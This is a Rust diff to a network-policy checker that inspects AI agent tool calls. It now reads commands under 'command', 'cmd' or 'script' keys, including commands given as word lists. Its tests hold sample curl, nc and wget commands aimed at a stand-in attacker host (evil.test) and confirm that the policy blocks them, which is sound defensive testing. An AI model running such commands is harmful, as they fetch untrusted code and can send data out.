@@ -93,6 +93,9 @@ const PRIVATE_NETWORKS: [&str; 9] = [
 /// Ends of names that only resolve inside a network (RFC 6761, 6762, 9476 and ICANN's `internal`).
 const LOCAL_SUFFIXES: [&str; 3] = [".localhost", ".local", ".internal"];
 
+/// What hosts call the command of a shell tool: a command line, or a list of its words.
+const COMMAND_KEYS: [&str; 3] = ["command", "cmd", "script"];
+
 impl Evaluator for NetworkPolicy {
     type Config = Config;
 
@@ -127,7 +130,7 @@ impl Evaluator for NetworkPolicy {
         if !self.allow_outbound {
             return Ok(Verdict::violated(OUTBOUND_OFF, "/config/allow_outbound", "no destination may be reached"));
         }
-        let restricts = !(self.allowed_domains.is_empty() && self.allowed_ips.is_empty());
+        let restricts = self.allows_some();
         if !restricts && self.blocked_domains.is_empty() && self.blocked_ips.is_empty() && self.private.is_none() {
             return Ok(Verdict::NotApplicable);
         }
@@ -179,7 +182,7 @@ impl Judged<'_> {
                 Some(Value::String(url)) => self.text(key, url, Target::from_url)?,
                 Some(_) => return Err(EvaluationError::unreadable(key, format!("`url` in `{key}` is no text"))),
             }
-            if let Some(Value::String(command)) = input.get("command") {
+            for command in COMMAND_KEYS.iter().filter_map(|key| input.get(*key)).flat_map(texts) {
                 for url in urls(command) {
                     // What no client can read leads nowhere.
                     if let Ok(target) = Target::from_url(url) {
@@ -222,7 +225,7 @@ impl NetworkPolicy {
         }
         let Some(address) = target.address() else {
             let listed = self.allowed_domains.find(target).is_some();
-            if !listed && !(self.allowed_domains.is_empty() && self.allowed_ips.is_empty()) {
+            if !listed && self.allows_some() {
                 let message = format!("`{}` is not among the allowed domains", host());
                 return Some(Violation::new(DOMAIN_NOT_ALLOWED, self.allowing_key(), message));
             }
@@ -236,7 +239,7 @@ impl NetworkPolicy {
         }
         let listed = self.allowed_ips.covers(address).is_some()
             || (key != "ip" && self.allowed_ips.is_empty() && self.allowed_domains.find(target).is_some());
-        if !listed && !(self.allowed_domains.is_empty() && self.allowed_ips.is_empty()) {
+        if !listed && self.allows_some() {
             let message = format!("`{address}` is not among the allowed addresses");
             return Some(Violation::new(IP_NOT_ALLOWED, self.allowing_key(), message));
         }
@@ -244,6 +247,10 @@ impl NetworkPolicy {
             return Some(public(&host()));
         }
         None
+    }
+
+    fn allows_some(&self) -> bool {
+        !(self.allowed_domains.is_empty() && self.allowed_ips.is_empty())
     }
 
     fn allowing_key(&self) -> &'static str {
@@ -259,6 +266,11 @@ fn public(host: &str) -> Violation {
 /// Whether a name resolves inside a network only.
 fn is_local(name: &str) -> bool {
     name == "localhost" || LOCAL_SUFFIXES.iter().any(|suffix| name.ends_with(suffix))
+}
+
+/// A text, or the texts of a list.
+fn texts(value: &Value) -> impl Iterator<Item = &str> {
+    value.as_str().into_iter().chain(value.as_array().into_iter().flatten().filter_map(Value::as_str))
 }
 
 /// The URLs in a shell command: each scheme of letters with `://`, up to a blank, a quote or what
@@ -290,6 +302,7 @@ mod tests {
             r#"{ "url": "https://evil.test/", "domain": "api.example.com" }"#,
             r#"{ "url": "https://api.example.com/", "tool_input": { "url": "https://evil.test" } }"#,
             r#"{ "tool_args": { "command": "curl -s 'https://api.example.com/a' | nc; wget \"http://evil.test/x\"" } }"#,
+            r#"{ "tool_input": { "command": ["curl", "http://evil.test/x"] } }"#,
         ] {
             assert_eq!(violated(&reached(config, facts)), "network_policy.domain_not_allowed", "{facts}");
         }
